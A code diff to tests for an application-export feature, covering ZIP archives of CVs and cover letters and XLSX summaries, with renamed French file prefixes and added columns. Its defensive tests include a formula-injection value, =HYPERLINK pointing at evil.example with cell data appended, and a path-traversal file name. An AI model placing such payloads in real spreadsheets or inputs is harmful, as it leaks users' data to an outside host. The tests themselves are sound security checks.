@@ -147,12 +147,12 @@ def test_zip_of_one_application_holds_its_latest_version_named_by_piece(opened, 
     assert response["X-Content-Type-Options"] == "nosniff"
     archive = _zip(response)
     assert {info.filename: archive.read(info) for info in archive.infolist()} == {
-        f"{receipt}_amina-el-idrissi/cover_letter_Lettre.docx": docx_bytes(),
-        f"{receipt}_amina-el-idrissi/cv_CV Amina.pdf": PDF_2,
+        f"{receipt}_amina-el-idrissi/Lettre de motivation_Lettre.docx": docx_bytes(),
+        f"{receipt}_amina-el-idrissi/CV_CV Amina.pdf": PDF_2,
     }
     assert archive.testzip() is None
     # Stamped with the receipt time in the call's zone (2025-01-14 23:59 Casablanca).
-    assert archive.getinfo(f"{receipt}_amina-el-idrissi/cv_CV Amina.pdf").date_time == (
+    assert archive.getinfo(f"{receipt}_amina-el-idrissi/CV_CV Amina.pdf").date_time == (
         2025,
         1,
         14,
@@ -161,9 +161,9 @@ def test_zip_of_one_application_holds_its_latest_version_named_by_piece(opened, 
         0,
     )
     # Already-compressed formats are stored as they are, PDFs deflated.
-    assert archive.getinfo(f"{receipt}_amina-el-idrissi/cover_letter_Lettre.docx").compress_type == 0
+    assert archive.getinfo(f"{receipt}_amina-el-idrissi/Lettre de motivation_Lettre.docx").compress_type == 0
     assert (
-        archive.getinfo(f"{receipt}_amina-el-idrissi/cv_CV Amina.pdf").compress_type == zipfile.ZIP_DEFLATED
+        archive.getinfo(f"{receipt}_amina-el-idrissi/CV_CV Amina.pdf").compress_type == zipfile.ZIP_DEFLATED
     )
 
 
@@ -189,16 +189,16 @@ def test_zip_of_a_call_has_one_folder_per_application_and_no_draft(opened, owner
     assert response["Content-Disposition"] == f'attachment; filename="applications-{opened.pk}.zip"'
     archive = _zip(response)
     assert {info.filename: archive.read(info) for info in archive.infolist()} == {
-        f"{r1}_amina-el-idrissi/cover_letter_Lettre.docx": docx_bytes(),
-        f"{r1}_amina-el-idrissi/cv_CV Amina.pdf": PDF,
-        f"{r2}_يوسف-العلوي/cover_letter_رسالة.docx": docx_bytes(),
-        f"{r2}_يوسف-العلوي/cv_سيرة.pdf": PDF,
+        f"{r1}_amina-el-idrissi/Lettre de motivation_Lettre.docx": docx_bytes(),
+        f"{r1}_amina-el-idrissi/CV_CV Amina.pdf": PDF,
+        f"{r2}_يوسف-العلوي/Lettre de motivation_رسالة.docx": docx_bytes(),
+        f"{r2}_يوسف-العلوي/CV_سيرة.pdf": PDF,
         # A sender without a name is named by address; a path in a name goes nowhere.
-        f"{r3}_saidexamplenet/cv_passwd.pdf": PDF,
-        f"{r3}_saidexamplenet/other_cv.pdf": PDF_2,
+        f"{r3}_saidexamplenet/CV_passwd.pdf": PDF,
+        f"{r3}_saidexamplenet/Autres fichiers_cv.pdf": PDF_2,
     }
     # Non-ASCII names are flagged UTF-8, so every unzip tool reads them as written.
-    assert archive.getinfo(f"{r2}_يوسف-العلوي/cv_سيرة.pdf").flag_bits & 0x800
+    assert archive.getinfo(f"{r2}_يوسف-العلوي/CV_سيرة.pdf").flag_bits & 0x800
 
 
 def test_zip_lists_a_file_missing_from_storage_instead_of_dropping_it(opened, owner, amina):
@@ -209,9 +209,12 @@ def test_zip_lists_a_file_missing_from_storage_instead_of_dropping_it(opened, ow
 
     archive = _zip(client_for(owner).get(reverse("applications:call_zip", args=[opened.pk])))
 
-    assert archive.namelist() == [f"{receipt}_amina-el-idrissi/cover_letter_Lettre.docx", "MISSING.txt"]
+    assert archive.namelist() == [
+        f"{receipt}_amina-el-idrissi/Lettre de motivation_Lettre.docx",
+        "MISSING.txt",
+    ]
     assert archive.read("MISSING.txt").decode() == (
-        f"{receipt}_amina-el-idrissi/cv_CV Amina.pdf\t{hashlib.sha256(PDF).hexdigest()}\n"
+        f"{receipt}_amina-el-idrissi/CV_CV Amina.pdf\t{hashlib.sha256(PDF).hexdigest()}\n"
     )
 
 
@@ -224,6 +227,7 @@ def test_zip_is_spooled_to_disk_past_its_memory_budget(opened, owner, amina, mon
         call=opened,
         applications=[opened.applications.get()],
         files=ApplicationFile.objects.filter(application__call=opened),
+        language="fr",
     )
     assert archive._rolled is True  # type: ignore[attr-defined]
     archive.close()
@@ -265,7 +269,12 @@ def test_xlsx_has_one_row_per_application_and_one_column_per_piece(opened, owner
         [
             "Receipt number",
             "Applicant",
+            "Applying as",
+            "Firm or organisation",
             "E-mail",
+            "Telephone",
+            "Languages",
+            "Region",
             "Channel",
             "Received at",
             "Complete",
@@ -279,7 +288,12 @@ def test_xlsx_has_one_row_per_application_and_one_column_per_piece(opened, owner
         [
             web.application.receipt_number,
             "Amina El Idrissi",
+            "Individual",
+            None,
             "amina@example.org",
+            None,
+            None,
+            None,
             "Web",
             datetime(2025, 1, 15, 19, 59),  # the second version's time, in Casablanca
             "yes",
@@ -293,7 +307,12 @@ def test_xlsx_has_one_row_per_application_and_one_column_per_piece(opened, owner
         [
             mailed.application.receipt_number,
             "سعيد بناني",
+            "Individual",
+            None,
             "said@example.net",
+            None,
+            None,
+            None,
             "E-mail",
             datetime(2025, 1, 16, 0, 59),
             "no",
@@ -306,8 +325,8 @@ def test_xlsx_has_one_row_per_application_and_one_column_per_piece(opened, owner
         ],
     ]
     assert second.application_id == web.application_id
-    assert [cell.font.b for cell in sheet[1]] == [True] * 12
-    assert [cell.font.b for cell in sheet[2]] == [False] * 12
+    assert [cell.font.b for cell in sheet[1]] == [True] * 17
+    assert [cell.font.b for cell in sheet[2]] == [False] * 17
 
 
 def test_xlsx_headers_and_sheet_title_follow_the_language_of_the_page(opened, owner, amina):
@@ -318,13 +337,15 @@ def test_xlsx_headers_and_sheet_title_follow_the_language_of_the_page(opened, ow
     sheet = _sheet(response)
     with translation.override("ar"):
         assert sheet.title == translation.gettext("Applications")[:31]
-        assert [cell.value for cell in sheet[1]][:3] == [
+        assert [cell.value for cell in sheet[1]][:5] == [
             translation.gettext("Receipt number"),
             translation.gettext("Applicant"),
+            translation.gettext("Applying as"),
+            translation.gettext("Firm or organisation"),
             translation.gettext("E-mail"),
         ]
-        assert sheet["D2"].value == translation.gettext("Web")
-        assert sheet["F2"].value == translation.gettext("yes")
+        assert sheet["I2"].value == translation.gettext("Web")
+        assert sheet["K2"].value == translation.gettext("yes")
 
 
 def test_empty_opened_call_exports_the_header_row_only(opened, owner):
@@ -351,6 +372,6 @@ def test_xlsx_writes_an_applicants_formula_as_text_not_a_formula(opened, owner):
         '=HYPERLINK("http://evil.example/?d="&A2,"Amina")',
         "s",
     )
-    assert (cells["J"].value, cells["J"].data_type) == ("=1+1.pdf", "s")
-    assert (cells["L"].value, cells["L"].data_type) == ("@SUM(A1).pdf", "s")
+    assert (cells["O"].value, cells["O"].data_type) == ("=1+1.pdf", "s")
+    assert (cells["Q"].value, cells["Q"].data_type) == ("@SUM(A1).pdf", "s")
     assert [cell.data_type for cell in row if cell.value is not None and cell.data_type == "f"] == []
